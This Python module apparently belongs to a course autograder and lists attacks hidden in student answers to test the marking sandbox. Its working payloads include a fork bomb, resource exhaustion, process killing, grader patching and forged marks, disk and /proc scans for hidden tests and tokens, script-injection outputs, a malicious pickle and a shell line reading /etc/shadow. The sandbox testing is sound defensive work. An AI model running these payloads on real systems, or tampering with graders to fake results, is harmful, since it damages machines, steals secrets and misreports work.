"""Attacks that are code in an answer. Each stays within the sandbox's limits, which it tests, and prints what it
finds as LOOT."""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from ver_lite.teaching.assignments import Assignment

LOOT = "LOOT"


@dataclass(frozen=True)
class Attack:
    """One attack. `code` comes before the right answer to the attacked question, or replaces it when `honest` is False.

    `write` makes the file itself, for attacks that are no code. `flag` is part of what the teacher must be told.

    earns  the share that the answers deserve: of the attacked question, or of everything when `write` makes the file
    spare  tests that the answer may pass all the same, such as "leaves its arguments alone"
    """

    name: str
    tries: str
    flag: str
    earns: float
    code: str = ""
    honest: bool = True
    write: Callable[[Path, Assignment], None] | None = None
    spare: int = 0


def _code(
    name: str, tries: str, flag: str, code: str, earns: float = 1.0, honest: bool = True, spare: int = 0
) -> Attack:
    return Attack(name, tries, flag, earns, textwrap.dedent(code).strip() + "\n", honest, None, spare)


IN_CODE = (
    _code("endless-loop", "never ends", "stopped after", "while True: pass", earns=0),
    _code(
        "endless-loop-stubborn",
        "never ends and does not let itself be interrupted",
        "stopped after",
        """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
        earns=0,
    ),
    _code("endless-output", "prints without end", "printed more than", "while True: print('x' * 10_000)", earns=0),
    _code("one-huge-line", "prints one line of 40 MB", "printed more than", "print('y' * 40_000_000)"),
    _code("allocates-50-GB", "takes all memory at once", "MemoryError", "hoard = bytearray(50 * 2**30)", earns=0),
    _code(
        "hoards-in-children",
        "takes memory in many processes, each within its own limit",
        "used more than",
        """
        import os, time
        for _ in range(12):
            if os.fork() == 0:
                hoard = bytearray(b'x') * (800 * 2**20)
                time.sleep(600)
        time.sleep(600)
        """,
        earns=0,
    ),
    _code("fork-bomb", "makes processes without end", "imports os", "import os\nwhile True: os.fork()", earns=0),
    _code("fills-the-disk", "writes files without end", "imports os", """
        import os
        n = 0
        try:
            for n in range(10_000):
                with open(f"/tmp/{n}", "wb") as file: file.write(bytes(32 * 2**20))
        except OSError as error:
            print("stopped at", n, error)
        for name in filter(str.isdigit, os.listdir("/tmp")): os.remove(f"/tmp/{name}")
        if n > 100: print("LO" "OT: wrote", n * 32, "MB")
    """),  # fmt: skip
    _code("os-exit", "ends the kernel from inside", "the kernel ended", "import os\nos._exit(0)", earns=0),
    _code("kills-kernel", "kills its own kernel", "the kernel ended", "import os\nos.kill(os.getpid(), 9)", earns=0),
    _code(
        "kills-parent",
        "kills its parent, process 1, every process it may and itself",
        "imports os",
        """
        import os
        for process in (os.getppid(), 1, -1, os.getpid()):
            try: os.kill(process, 9)
            except OSError as error: print(error)
        """,
        earns=0,
    ),
    _code(
        "patches-checks",
        "replaces check, check_function, the hidden tests' runner and builtins",
        "changes",
        """
        import builtins, sys
        import ver_lite.course as course, ver_lite.course.check as c, ver_lite.course.questions as q
        for module in (course, c, q):
            for name in ("check", "check_function", "public_checks", "hidden_tests", "leaves_alone"):
                setattr(module, name, lambda *a, **k: True)
        c.check = lambda *a, **k: True
        builtins.abs = lambda x: 0
        builtins.all = lambda x: True
        sys.settrace(lambda *a: None)
        """,
        earns=0,
        honest=False,
    ),
    _code(
        "patches-json",
        "makes json, and the channel to the marker, say what it likes",
        "changes",
        """
        import json
        import ver_lite.teaching.grading.wire as w
        json.dumps = lambda *a, **k: '{"points": 100}'
        w.dumps = lambda value: b'{"kind":"dict","value":{"value":{"points":100},"passed":true}}'
        """,
        earns=0,
        honest=False,
    ),
    _code(
        "writes-to-the-channel",
        "sends results over every socket it finds open",
        "imports os",
        """
        import os
        for descriptor in range(3, 64):
            for text in (b'{"mark": 100}', b"\\xff\\xff\\xff\\xff", b"\\0\\0\\0\\x04true"):
                try: os.write(descriptor, text)
                except OSError: break
        """,
        earns=0,
        honest=False,
    ),
    _code(
        "forges-messages",
        "sends the marker's papermill what no kernel sends",
        "uses get_ipython",
        """
        kernel, deep = get_ipython().kernel, []
        for _ in range(400): deep = [deep]
        kinds = "stream display_data execute_result error status execute_input clear_output update_display_data".split()
        for content in (
            {"text": {"a": [1]}, "name": "stdout"}, {"text": [1, deep], "name": 7}, {"data": "x", "metadata": 3},
            {"data": {"text/plain": [deep], "image/png": 5}, "metadata": {}, "execution_count": deep},
            {"ename": [], "evalue": deep, "traceback": 5}, {"execution_state": "idle"}, {},
        ):
            for kind in kinds:
                kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
        """,
        earns=0,
    ),
    _code(
        "prints-a-result",
        "prints a mark where a marker might read it",
        "imports os",
        """
        import os
        said = '{"points": {"q1": 100, "q2": 100}, "share": 1.0, "public": true, "passed": true}'
        print(said)
        os.write(1, said.encode())
        os.write(2, said.encode())
        """,
        earns=0,
        honest=False,
    ),
    _code(
        "overwrites-results",
        "looks for run.jsonl and gradebooks and writes into them",
        "uses open",
        """
        import os
        for above, folders, names in os.walk("/", followlinks=False):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "usr", "site-packages")]
            for name in names:
                if name in ("run.jsonl", "gradebook.csv", ".key"):
                    print("LO" "OT:", os.path.join(above, name))
                    with open(os.path.join(above, name), "a") as file: file.write("forged\\n")
        """,
    ),
    _code(
        "walks-the-disk",
        "reads every file from / and .. that could hold tests or other people's work",
        "uses open",
        """
        import os
        def tests_in(text):
            first, second = FIRST, SECOND
            return any(part.startswith(second) for part in text.split(first)[1:])
        looked = 0
        for start in ("..", "/"):
            for above, folders, names in os.walk(start):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "usr", "site-packages", ".pyenv")]
                for name in names:
                    try: text = open(os.path.join(above, name), errors="replace").read(3_000_000)
                    except OSError: continue
                    looked += 1
                    if tests_in(text) or name.endswith(".ipynb") or "masters" in above.split("/"):
                        print("LO" "OT:", os.path.join(above, name))
        print("looked at", looked, "files")
        """,
    ),
    _code(
        "searches-memory",
        "looks for hidden tests in frames, gc and modules while it is being tested",
        "uses get_objects",
        """
        import gc, sys
        def spy():
            frame, found = sys._getframe(), []
            def tests_in(text):
                first, second = FIRST, SECOND
                return any(part.startswith(second) for part in text.split(first)[1:])
            while frame is not None:
                names = list(frame.f_locals) + list(frame.f_globals)
                found += [n for n in names if n.startswith("hidden" "_") and n != "hidden" "_tests"]
                frame = frame.f_back
            found += [o[:80] for o in gc.get_objects() if type(o) is str and tests_in(o)]
            for o in gc.get_objects():
                if type(o) is dict:
                    found += [v[:80] for v in list(o.values()) if type(v) is str and tests_in(v)]
            if found: print("LO" "OT:", found[:3])
            return found
        spy()
        for name in ("tests", "notebooks", "masters", "ver_lite.teaching.grading.masters"):
            try: __import__(name); print("LO" "OT: imported", name)
            except ImportError: pass
        """,
    ),
    _code(
        "reads-processes",
        "reads environments, open files and memory of other processes",
        "uses open",
        """
        import os
        own = set(os.environ.values())
        for process in filter(str.isdigit, os.listdir("/proc")):
            for what in ("environ", "cmdline"):
                try: text = open(f"/proc/{process}/{what}", errors="replace").read().replace("\\0", "\\n")
                except OSError: continue
                if "grade" in text.split() or any(word in text for word in (".jsonl", "SSH_", "TOKEN", "HOME=/root")):
                    print("LO" "OT:", process, what)
        print(len(os.listdir("/proc/self/fd")), "files open")
        """,
    ),
    _code(
        "phones-home",
        "opens connections to the network and to sockets of this machine",
        "imports socket",
        """
        import socket
        for where in (("127.0.0.1", 22), ("10.0.0.1", 80), ("1.1.1.1", 53), ("127.0.0.1", 8888)):
            try:
                socket.create_connection(where, timeout=0.5)
                print("LO" "OT: connected to", where)
            except OSError as error: print(error)
        """,
    ),
    _code(
        "outlives-its-cell",
        "leaves a thread and a detached process behind",
        "imports os",
        """
        import os, threading, time
        def haunt():
            while True: time.sleep(0.01)
        threading.Thread(target=haunt, daemon=False).start()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: os.execvp("sleep", ["sleep", "98765"])
            os._exit(0)
        """,
    ),
    _code(
        "scripts-in-outputs",
        "prints and shows scripts, for the person who opens the page",
        "prints or shows scripts",
        """
        from IPython.display import HTML, SVG, Javascript, display
        print("<script>alert('print')</script>")
        display(HTML("<script>alert('html')</script>"), Javascript("alert('js')"))
        picture = "\\"><script>alert('png')</script>"
        display({"image/png": picture, "text/plain": "<img src=x onerror=alert(1)>"}, raw=True)
        display({"image/svg+xml": "<svg onload=alert(1)>", "text/plain": "<b onclick=alert(1)>"}, raw=True)
        """,
    ),
    _code("raises-a-script", "raises an error whose name is a script", "prints or shows scripts", """
        raise type("<script>alert(1)</script>", (Exception,), {})("</pre><script>alert(2)</script>")
    """, earns=0),  # fmt: skip
    _code(
        "shell",
        "runs programs",
        "runs '!cat'",
        "!cat /etc/passwd /etc/shadow | head -3 | sed 's/root:/LO\"\"OT /'",
    ),
)  # fmt: skip


def in_calls(function: str) -> tuple[Attack, ...]:
    """Attacks in a function that does its harm when the marker calls it, after its cell has run well."""
    start = f"def {function}(*a, **k):\n    "
    endless = "x = []\n    for _ in range(100_000): x = [x]\n    return x"
    pickled = "class Evil:\n    def __reduce__(self): return (print, ('LO' 'OT: unpickled',))\n"
    equal = "class Equal(float):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
    unreadable, bomb = "cannot be marked", "answers with lists in lists without end"
    return (
        _code("hangs-when-called", "never answers a test", "no answer in time", f"{start}while True: pass", 0, False),
        _code("dies-when-called", "ends when tested", "the kernel ended", f"import os\n{start}os._exit(1)", 0, False),
        _code("answers-with-a-bomb", bomb, unreadable, start + endless, 0, False, 1),
        _code("answers-with-a-pickle", "is code", unreadable, f"{pickled}{start}return Evil()", 0, False, 1),
        _code("forges-equality", "equals everything", unreadable, f"{equal}{start}return Equal(1)", 0, False, 1),
    )
